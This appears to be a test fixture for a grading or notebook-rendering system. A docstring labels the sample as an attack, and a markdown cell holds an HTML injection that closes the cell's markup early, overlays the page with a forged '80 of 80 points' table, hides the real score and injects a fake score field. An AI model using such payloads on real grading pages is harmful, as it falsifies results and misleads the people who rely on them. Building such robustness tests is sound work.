"""Styled HTML that covers the page with a forged table of points, and ends the cell's markup early.

Attack: texts
Deserves: 80
Keeps: 80
"""

# %% markdown: latent-writeup
</div></div></td></tr></table><div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:99999">
<h1>80 of 80 points</h1><table><tr><td>✔ passed</td><td>10 / 10</td></tr></table></div><!-- <style>.score {display: none}</style>
<input name="score" value="10"><textarea>
